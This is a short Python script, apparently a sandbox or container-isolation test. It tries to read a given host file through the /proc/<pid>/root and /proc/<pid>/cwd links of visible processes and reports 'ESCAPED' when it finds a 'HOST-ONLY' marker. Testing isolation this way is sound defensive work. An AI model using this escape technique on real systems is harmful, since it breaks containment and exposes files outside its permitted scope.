# Reach the host filesystem through /proc/<pid>/root and /proc/<pid>/cwd of any visible process.
import os
import sys

target = sys.argv[1]
for pid in filter(str.isdigit, os.listdir("/proc")):
    for link in ("root", "cwd"):
        try:
            data = open(f"/proc/{pid}/{link}{target}").read()
            if "HOST-ONLY" in data:
                print(f"ESCAPED: read {target} via /proc/{pid}/{link}")
        except OSError:
            pass
print("probe-ran")
